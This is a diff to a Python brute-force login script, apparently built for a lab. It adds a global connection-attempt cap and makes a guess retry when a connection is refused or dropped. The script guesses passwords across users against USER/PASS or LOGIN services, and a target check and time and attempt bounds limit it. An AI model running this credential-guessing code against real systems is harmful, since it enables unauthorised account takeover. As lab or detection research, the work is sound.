@@ -11,7 +11,7 @@ client stopped by the lab still leaves its record):
             2009 attack and many scripts do it): for each password, for each user, connect,
             USER/PASS (or LOGIN), disconnect. ``{"t": ..., "user": u, "result":
             "fail"|"found"|"connect"|"error", "err": ...}``; "connect" means the connection
-            itself failed (dropped by a firewall: timeout).
+            itself failed (dropped by a firewall: timeout); the same guess is then retried.
 """
 
 from __future__ import annotations
@@ -108,14 +108,22 @@ def attack(a: argparse.Namespace, out: _Out) -> None:
     found: set[str] = set()
     it = iter(pairs)
 
+    tries = [0]
+
     def worker() -> None:
+        nxt = None
         while time.monotonic() < t_end:
             with lock:
-                nxt = next(it, None)
+                if tries[0] >= a.max_connects:
+                    return
+                tries[0] += 1
+                if nxt is None:
+                    nxt = next(it, None)
             if nxt is None:
                 return
             user, pw = nxt
             if user in found:
+                nxt = None
                 continue
             t = time.time()
             res, err = try_login(a.proto, a.host, user, pw, a.timeout)
@@ -123,6 +131,10 @@ def attack(a: argparse.Namespace, out: _Out) -> None:
                 found.add(user)
                 res = "found"
             out.write({"t": t, "user": user, "result": res, "err": err, "proto": a.proto})
+            if res == "connect":
+                time.sleep(0.2)  # the connection was refused or dropped: retry the same guess
+            else:
+                nxt = None
 
     threads = [threading.Thread(target=worker, daemon=True) for _ in range(a.parallel)]
     for th in threads:
@@ -145,10 +157,11 @@ def main() -> None:
     ap.add_argument("--seconds", type=float, default=30.0)
     ap.add_argument("--max-attempts", type=int, default=200)
     ap.add_argument("--parallel", type=int, default=1)
+    ap.add_argument("--max-connects", type=int, default=2000, help="attack: connection attempts in all")
     ap.add_argument("--out", required=True)
     a = ap.parse_args()
     _check_target(a.host)
-    if a.seconds > 900 or a.max_attempts > 5000 or not 1 <= a.parallel <= 16:
+    if a.seconds > 900 or a.max_attempts > 5000 or a.max_connects > 10000 or not 1 <= a.parallel <= 16:
         raise SystemExit("bounded: at most 900 s, 5000 attempts, 16 in parallel")
     socket.setdefaulttimeout(a.timeout)
     out = _Out(a.out)
